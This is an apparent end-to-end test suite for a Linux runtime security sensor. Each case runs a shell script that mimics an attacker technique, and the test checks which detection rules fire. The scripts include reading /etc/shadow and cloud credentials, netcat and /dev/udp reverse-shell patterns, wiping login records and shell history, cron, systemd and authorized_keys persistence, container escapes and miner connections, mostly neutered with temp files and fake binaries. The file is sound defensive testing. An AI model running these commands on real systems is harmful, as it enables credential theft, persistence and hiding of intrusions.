import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { progs, type RunningSensor, requireKernel, root, run, startSensor, type WireEvent } from "./harness.js";

/**
 * The stock policies against real behaviour, in one sensor run: each case is a shell script
 * that does one thing an attacker does (or a look-alike of it), and the test asserts exactly
 * which stock rules fired in that script's process tree. What cannot be done for real without
 * harming the host is done where a rule's condition also reaches: files are made in temporary
 * directories, in a temporary home below /home, or created in /etc and removed at once; files
 * that must stay (wtmp, core_pattern, /etc/passwd) are opened without being changed, or put back.
 * A few cases stand in for software this machine lacks: a copy of dash named nginx or conmon
 * gives a shell a server or a container runtime as its parent, a copy of true named ncat or
 * xmrig is run with a netcat's or a miner's arguments.
 */

/** One of this host's own IPv4 addresses (not loopback): connections to it stay on the host. */
function outwardAddress(): string {
  for (const addresses of Object.values(networkInterfaces())) {
    const found = addresses?.find((a) => a.family === "IPv4" && !a.internal);
    if (found) return found.address;
  }
  throw new Error("no IPv4 address besides loopback");
}

interface Case {
  name: string;
  /** Run by /bin/sh from a file, so no command line but the script's own carries its text. */
  script: string;
  /** The stock rules that must fire in the script's process tree, and no others. */
  expect: string[];
}

/** Environment of every script: T a temp dir, H a temp home, F fake programs, P the testers, A an address. */
const cases: Case[] = [
  // Credentials
  { name: "cat /etc/shadow", script: "cat /etc/shadow > /dev/null", expect: ["read-shadow"] },
  { name: "cat /etc/passwd (look-alike)", script: "cat /etc/passwd > /dev/null", expect: [] },
  {
    name: "a sudoers rule written, read and removed",
    script: `made=; [ -d /etc/sudoers.d ] || { mkdir /etc/sudoers.d; made=1; }
f=/etc/sudoers.d/vigil-e2e-$$
echo '# vigil e2e' >> $f; cat $f > /dev/null; rm -f $f
[ -z "$made" ] || rmdir /etc/sudoers.d`,
    expect: ["read-sudoers", "sudoers-modified"],
  },
  {
    name: "an SSH host key written and read",
    script: "f=/etc/ssh/ssh_host_vigile2e$$_key; : >> $f; cat $f > /dev/null; rm -f $f",
    expect: ["read-ssh-host-keys", "write-below-etc"],
  },
  {
    name: "a user's SSH private key read",
    script: "mkdir -p $H/.ssh; : >> $H/.ssh/id_ed25519; cat $H/.ssh/id_ed25519 > /dev/null",
    expect: ["read-ssh-user-keys"],
  },
  {
    name: "the public key read, and the private one by ssh-keygen (look-alikes)",
    script: `mkdir -p $H/.ssh; : >> $H/.ssh/id_ed25519.pub; cat $H/.ssh/id_ed25519.pub
ssh-keygen -l -f $H/.ssh/id_ed25519 > /dev/null 2>&1 || true`,
    expect: [],
  },
  {
    name: "AWS credentials read",
    script: "mkdir -p $H/.aws; : >> $H/.aws/credentials; cat $H/.aws/credentials",
    expect: ["read-cloud-credentials"],
  },
  {
    name: "AWS config read (look-alike)",
    script: "mkdir -p $H/.aws; : >> $H/.aws/config; cat $H/.aws/config",
    expect: [],
  },
  // System files
  { name: "cat /etc/hostname (look-alike)", script: "cat /etc/hostname > /dev/null", expect: [] },
  {
    name: "a file dropped in /usr/local/bin",
    script: "f=/usr/local/bin/vigil-e2e-$$; : >> $f; rm -f $f",
    expect: ["write-below-binary-dirs"],
  },
  {
    name: "a library dropped in /usr/local/lib",
    script: "f=/usr/local/lib/vigil-e2e-$$.so; : >> $f; rm -f $f",
    expect: ["write-below-library-dirs"],
  },
  {
    name: "a file written below /boot",
    script: "f=/boot/vigil-e2e-$$; : >> $f; rm -f $f",
    expect: ["write-below-boot"],
  },
  {
    name: "a program moved into /usr/local/bin",
    script: "s=/usr/local/vigil-e2e-$$; d=/usr/local/bin/vigil-e2e-mv-$$; : >> $s; mv $s $d; rm -f $d",
    expect: ["system-program-replaced"],
  },
  // Execution
  { name: "a program run from /tmp", script: "$F/true", expect: ["exec-from-tmp"] },
  { name: "/usr/bin/true (look-alike)", script: "/usr/bin/true", expect: [] },
  {
    name: "a program run from a memfd",
    script: "$P/mem-memfd memfd vigil-e2e > /dev/null",
    expect: ["exec-from-memfd"],
  },
  {
    name: "a program run from a deleted file",
    script: "$P/mem-memfd deleted $T/deleted-true > /dev/null",
    expect: ["exec-from-tmp", "exec-of-deleted-file"],
  },
  {
    name: "a shell started by nginx",
    script: "$F/nginx -c '/bin/sh -c true; true'",
    expect: ["exec-from-tmp", "shell-from-server"],
  },
  {
    name: "nginx runs id (look-alike)",
    script: "$F/nginx -c '/usr/bin/id > /dev/null; true'",
    expect: ["exec-from-tmp"],
  },
  {
    name: "a node server runs a shell for a connection from another address",
    script: "node $T/server.mjs",
    expect: ["accepted-connection-then-shell", "shell-from-listening-runtime"],
  },
  {
    name: "node runs a shell without serving (look-alike)",
    script: `node -e "require('node:child_process').spawnSync('/bin/sh', ['-c', 'true'])"`,
    expect: [],
  },
  // Reverse shells
  {
    name: "bash connects with /dev/udp, then becomes a shell",
    script: `bash -c "exec 3<>/dev/udp/$A/4444; exec /bin/sh -c true"`,
    expect: ["connect-then-shell", "connected-process-becomes-shell", "shell-redirect-to-network"],
  },
  {
    name: "a connection, then a shell in a child (not the same process)",
    script: "$P/net-connect-exec $A 4444 > /dev/null",
    expect: ["connect-then-shell"],
  },
  {
    name: "netcat with -e",
    script: "$F/ncat -e /bin/sh 192.0.2.1 4444",
    expect: ["exec-from-tmp", "netcat-with-program"],
  },
  { name: "netcat with -z (look-alike)", script: "$F/ncat -z 192.0.2.1 4444", expect: ["exec-from-tmp"] },
  // Injection and privilege
  { name: "writable and executable memory", script: "$P/mem-wx $T/wx > /dev/null", expect: ["wx-memory"] },
  {
    name: "ptrace attach and a poke into a child",
    script: "$P/proc-ptrace > /dev/null",
    expect: ["ptrace-attach", "ptrace-memory-write"],
  },
  { name: "root given up and taken back", script: "perl -e '$> = 65534; $> = 0'", expect: ["root-regained"] },
  { name: "root given up (look-alike)", script: "perl -e '$> = 65534'", expect: [] },
  {
    name: "set*id calls that drop or fail (look-alike)",
    script: "$P/proc-cred > /dev/null",
    expect: [],
  },
  {
    name: "an unprivileged process raises a kept capability",
    script: "$P/cred-capraise raise > /dev/null",
    expect: ["capabilities-raised"],
  },
  {
    name: "an unprivileged process drops capabilities (look-alike)",
    script: "$P/cred-capraise drop > /dev/null",
    expect: [],
  },
  {
    name: "a set-user-id file made",
    script: ": >> $T/suid; chmod 4755 $T/suid",
    expect: ["set-id-bit-set"],
  },
  {
    name: "chmod 755 and 1777 (look-alike)",
    script: ": >> $T/plain; chmod 755 $T/plain; chmod 1777 $T/plain",
    expect: [],
  },
  // Kernel
  { name: "BPF programs loaded", script: "$P/kernel-bpf > /dev/null", expect: ["bpf-program-load"] },
  {
    name: "dmesg_restrict written back",
    script: "v=$(cat /proc/sys/kernel/dmesg_restrict); echo $v > /proc/sys/kernel/dmesg_restrict",
    expect: ["kernel-hardening-changed"],
  },
  // Logs and history
  {
    name: "a log emptied, truncated and removed",
    script: "f=/var/log/vigil-e2e-$$.log; echo x >> $f; : > $f; truncate -s 0 $f; rm $f",
    expect: ["log-file-deleted", "log-file-emptied", "log-file-truncated"],
  },
  {
    name: "a log appended to and read (look-alike)",
    script: "f=/var/log/vigil-e2e-$$.log; echo x >> $f; cat $f > /dev/null; mv $f $T/",
    expect: [],
  },
  {
    name: "wtmp emptied, then put back",
    script: "cp /var/log/wtmp $T/wtmp; : > /var/log/wtmp; cat $T/wtmp >> /var/log/wtmp",
    expect: ["login-records-emptied"],
  },
  {
    name: "btmp truncated, then put back",
    script: "cp /var/log/btmp $T/btmp; truncate -s 0 /var/log/btmp; cat $T/btmp >> /var/log/btmp",
    expect: ["login-records-truncated"],
  },
  {
    name: "faillog removed, then put back",
    script: "cp -p /var/log/faillog $T/faillog; rm /var/log/faillog; cp -p $T/faillog /var/log/faillog",
    expect: ["login-records-deleted"],
  },
  {
    name: "a history emptied, truncated, replaced by a link, removed and linked to /dev/null",
    script: `h=$H/.bash_history; echo ls >> $h; : > $h; truncate -s 0 $h
ln -sf /dev/null $h; rm $h; ln -s /dev/null $h`,
    expect: ["history-deleted", "history-emptied", "history-linked-to-null", "history-replaced", "history-truncated"],
  },
  {
    name: "a history appended to and read (look-alike)",
    script: "echo ls >> $H/.zsh_history; cat $H/.zsh_history > /dev/null",
    expect: [],
  },
  {
    name: "bash -c 'unset HISTFILE'",
    script: "bash -c 'unset HISTFILE; true'",
    expect: ["history-disabled-in-command"],
  },
  { name: "bash -c 'echo $HISTFILE' (look-alike)", script: `bash -c 'echo "$HISTFILE" > /dev/null'`, expect: [] },
  // Persistence
  {
    name: "a cron job written and removed",
    script: "f=/etc/cron.d/vigil-e2e-$$; echo '# vigil e2e' >> $f; rm -f $f",
    expect: ["cron-modified"],
  },
  { name: "a cron job read (look-alike)", script: "cat /etc/cron.d/* > /dev/null", expect: [] },
  {
    name: "a user systemd unit written and enabled",
    script: `d=$H/.config/systemd/user; mkdir -p $d/default.target.wants; echo '[Unit]' >> $d/vigil-e2e.service
ln -s ../vigil-e2e.service $d/default.target.wants/vigil-e2e.service`,
    expect: ["systemd-unit-enabled", "systemd-unit-modified"],
  },
  {
    name: "an init script written and removed",
    script: "f=/etc/init.d/vigil-e2e-$$; : >> $f; rm -f $f",
    expect: ["init-script-modified"],
  },
  {
    name: "an SSH key added to authorized_keys",
    script: "mkdir -p $H/.ssh; echo 'ssh-ed25519 AAAA vigil-e2e' >> $H/.ssh/authorized_keys",
    expect: ["authorized-keys-modified"],
  },
  {
    name: "authorized_keys replaced by mv",
    script:
      "mkdir -p $H/.ssh; echo 'ssh-ed25519 AAAA vigil-e2e' >> $H/.ssh/ak.new; mv $H/.ssh/ak.new $H/.ssh/authorized_keys",
    expect: ["persistence-file-replaced"],
  },
  { name: "known_hosts written (look-alike)", script: "mkdir -p $H/.ssh; : >> $H/.ssh/known_hosts", expect: [] },
  {
    name: "/etc/ld.so.preload opened for writing",
    script:
      "if [ -e /etc/ld.so.preload ]; then : >> /etc/ld.so.preload; else : >> /etc/ld.so.preload; rm -f /etc/ld.so.preload; fi",
    expect: ["ld-preload-modified"],
  },
  {
    name: "a library path added and removed",
    script: "f=/etc/ld.so.conf.d/vigil-e2e-$$.conf; : >> $f; rm -f $f",
    expect: ["library-path-modified"],
  },
  { name: "a .bashrc appended to", script: "echo '# vigil e2e' >> $H/.bashrc", expect: ["shell-profile-modified"] },
  {
    name: "a .bashrc read, a .bashrc.orig written (look-alike)",
    script: "cat $H/.bashrc > /dev/null; : >> $H/.bashrc.orig",
    expect: [],
  },
  { name: "/etc/passwd opened for writing, unchanged", script: ": >> /etc/passwd", expect: ["account-files-modified"] },
  {
    name: "useradd in a copy of /etc",
    script: `mkdir -p $T/root/etc; cp /etc/passwd /etc/group /etc/login.defs $T/root/etc/
: >> $T/root/etc/shadow; : >> $T/root/etc/gshadow; useradd -R $T/root vigile2e`,
    expect: ["account-created"],
  },
  { name: "useradd --help (look-alike)", script: "useradd --help > /dev/null", expect: [] },
  {
    name: "an XDG autostart entry",
    script: "mkdir -p $H/.config/autostart; : >> $H/.config/autostart/vigil-e2e.desktop",
    expect: ["autostart-modified"],
  },
  {
    name: "an sshd drop-in written and removed",
    script: `d=/etc/ssh/sshd_config.d; made=; [ -d $d ] || { mkdir $d; made=1; }
: >> $d/vigil-e2e-$$.conf; rm -f $d/vigil-e2e-$$.conf; [ -z "$made" ] || rmdir $d`,
    expect: ["sshd-config-modified"],
  },
  // Containers
  {
    name: "apt-get in a container",
    script: `$F/conmon -c "$T/rootfs/usr/bin/apt-get install -y nmap; true"`,
    expect: ["exec-from-tmp", "package-manager-in-container"],
  },
  { name: "apt-get --version on the host (look-alike)", script: "apt-get --version > /dev/null", expect: [] },
  {
    name: "a tmpfs mounted in a container",
    script: `$F/conmon -c "unshare -m mount -t tmpfs vigil-e2e $T/mnt; true"`,
    expect: ["exec-from-tmp", "mount-in-container"],
  },
  {
    name: "a tmpfs mounted on the host (look-alike)",
    script: "unshare -m mount -t tmpfs vigil-e2e $T/mnt",
    expect: [],
  },
  {
    // The kernel refuses a second mount of the root disk on this machine (EACCES); the attempt counts.
    name: "the root disk mounted again in a private namespace",
    script: "unshare -m mount $ROOTDEV $T/mnt 2> /dev/null || true",
    expect: ["mount-block-device"],
  },
  // pid 1's namespaces are closed to this machine's root (the VM's init guards them): nsenter fails to open them.
  { name: "nsenter -t 1 -m", script: "nsenter -t 1 -m true 2> /dev/null || true", expect: ["nsenter-to-init"] },
  {
    name: "nsenter into another process's mount namespace",
    script: "unshare -m sleep 5 & p=$!; sleep 0.3; nsenter -t $p -m true; kill $p",
    expect: ["namespace-entered"],
  },
  { name: "nsenter into its own UTS namespace (look-alike)", script: "nsenter -t $$ -u true", expect: [] },
  {
    name: "core_pattern written back",
    script: `v=$(cat /proc/sys/kernel/core_pattern); printf '%s\\n' "$v" > /proc/sys/kernel/core_pattern`,
    expect: ["core-pattern-written"],
  },
  {
    name: "a release_agent written",
    script: "mkdir -p $T/cg; echo $T/x > $T/cg/release_agent; echo x > $T/cg/release_agent.txt",
    expect: ["cgroup-release-agent-written"],
  },
  {
    name: "the Docker socket from a container",
    script: `$F/conmon -c "curl -s --unix-socket /var/run/docker.sock http://x/; true"`,
    expect: ["exec-from-tmp", "runtime-socket-from-container"],
  },
  {
    name: "the Docker socket from the host (look-alike)",
    script: "curl -s --unix-socket /var/run/docker.sock http://x/ || true",
    expect: [],
  },
  // Mining
  {
    name: "a mining pool looked up",
    script: "$P/net-dns sendto pool.supportxmr.com A 4242 > /dev/null",
    expect: ["miner-pool-lookup"],
  },
  {
    name: "deb.debian.org looked up (look-alike)",
    script: "$P/net-dns sendto deb.debian.org A 4243 > /dev/null",
    expect: [],
  },
  {
    name: "a connection to port 3333",
    script: "curl -s -m 2 http://$A:3333/ || true",
    expect: ["stratum-port-connect"],
  },
  { name: "a connection to port 3339 (look-alike)", script: "curl -s -m 2 http://$A:3339/ || true", expect: [] },
  { name: "xmrig run", script: "$F/xmrig", expect: ["exec-from-tmp", "miner-program"] },
  {
    name: "a stratum URL in a command line",
    script: "/usr/bin/true -o stratum+tcp://192.0.2.1:3333 --donate-level 1",
    expect: ["miner-command-line"],
  },
  { name: "a tcp URL in a command line (look-alike)", script: "/usr/bin/true -o tcp://192.0.2.1:3333", expect: [] },
  // Last: a download completes a partial match with any program run from /tmp for a minute.
  {
    name: "a download, then /usr/bin/true (look-alike)",
    script: "mkdir -p $T/dl; curl -s -o $T/dl/data file:///etc/hostname; /usr/bin/true",
    expect: [],
  },
  {
    name: "a download, then the file run",
    script: "mkdir -p $T/dl; curl -s -o $T/dl/payload file:///usr/bin/true; chmod +x $T/dl/payload; $T/dl/payload",
    expect: ["download-and-exec", "exec-from-tmp"],
  },
];

/** A node server that runs a shell when a client from another address (a curl it starts) connects. */
const server = (address: string) => `
import { execFile, spawnSync } from "node:child_process";
import { createServer } from "node:net";
const server = createServer((socket) => {
  spawnSync("/bin/sh", ["-c", "true"]);
  socket.end("HTTP/1.0 200 OK\\r\\n\\r\\n");
  server.close();
});
server.listen(0, "${address}", () => {
  execFile("curl", ["-s", "-m", "5", "http://${address}:" + server.address().port + "/"], () => {});
});
`;

describe("the stock policies on real behaviour", () => {
  let sensor: RunningSensor | undefined;
  let work: string;
  let home: string;
  let testers: string;

  before(async (t) => {
    if (!requireKernel(t as never)) return;
    work = realpathSync(mkdtempSync(join(tmpdir(), "vigil-stock-")));
    home = mkdtempSync("/home/vigil-e2e-");
    // The testers run from a directory no rule watches: a checkout below /tmp would otherwise
    // make every case an exec from a staging directory too.
    testers = mkdtempSync("/var/lib/vigil-e2e-testers-");
    chmodSync(testers, 0o755);
    for (const name of readdirSync(progs)) copyFileSync(join(progs, name), join(testers, name));
    const fakes = join(work, "bin");
    mkdirSync(fakes);
    mkdirSync(join(work, "rootfs/usr/bin"), { recursive: true });
    mkdirSync(join(work, "mnt"));
    mkdirSync(join(work, "cases"));
    for (const [name, from] of [
      ["true", "/usr/bin/true"],
      ["nginx", "/usr/bin/dash"],
      ["conmon", "/usr/bin/dash"],
      ["ncat", "/usr/bin/true"],
      ["xmrig", "/usr/bin/true"],
    ] as const) {
      copyFileSync(from, join(fakes, name));
      chmodSync(join(fakes, name), 0o755);
    }
    copyFileSync("/usr/bin/true", join(work, "rootfs/usr/bin/apt-get"));
    chmodSync(join(work, "rootfs/usr/bin/apt-get"), 0o755);
    writeFileSync(join(work, "server.mjs"), server(outwardAddress()));
    sensor = await startSensor(["--policies", join(root, "policies")]);
  });

  after(async () => {
    if (sensor) await sensor.stop();
    if (work) rmSync(work, { recursive: true, force: true });
    if (home) rmSync(home, { recursive: true, force: true });
    if (testers) rmSync(testers, { recursive: true, force: true });
  });

  test("each case fires exactly the rules it should, in its own process tree", async (t) => {
    if (!sensor) return t.skip("no kernel");
    const s = sensor;
    const env = {
      ...process.env,
      T: work,
      H: home,
      F: join(work, "bin"),
      P: testers,
      A: outwardAddress(),
      ROOTDEV: execFileSync("findmnt", ["-no", "SOURCE", "/"], { encoding: "utf8" }).trim(),
    };
    const roots = new Map<number, string>();
    for (const [i, c] of cases.entries()) {
      const file = join(work, "cases", `${i}.sh`);
      writeFileSync(file, `set -e\n${c.script}\n`);
      const done = await run("/bin/sh", [file], { env });
      assert.equal(done.code, 0, `${c.name}: the script failed`);
      roots.set(done.pid, c.name);
    }

    // An alert belongs to the case whose script has the last event's process in its tree.
    const caseOf = (alert: WireEvent): string | undefined => {
      const last = (alert.events as WireEvent[]).at(-1);
      if (!last) return undefined;
      const tree = [last.process.pid, ...(last.process.ancestry as { pid: number }[]).map((a) => a.pid)];
      return tree.map((pid) => roots.get(pid)).find((name) => name !== undefined);
    };
    const fired = () => {
      const got = new Map(cases.map((c) => [c.name, new Set<string>()]));
      for (const e of s.events()) {
        if (e.kind !== "alert") continue;
        const name = caseOf(e);
        if (name) got.get(name)?.add((e.rule as { id: string }).id);
      }
      return Object.fromEntries([...got].map(([name, ids]) => [name, [...ids].sort()]));
    };
    const complete = () => cases.every((c) => c.expect.every((id) => fired()[c.name]?.includes(id)));
    const until = Date.now() + 15_000;
    while (!complete() && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
    // Alerts that should not come would come with the events before the last expected one;
    // a short wait more lets a straggler show.
    await new Promise((r) => setTimeout(r, 1000));
    const got = fired();
    const wrong = cases
      .map((c) => ({ case: c.name, expected: [...c.expect].sort(), fired: got[c.name] }))
      .filter((r) => JSON.stringify(r.expected) !== JSON.stringify(r.fired));
    assert.deepEqual(wrong, []);
  });
});
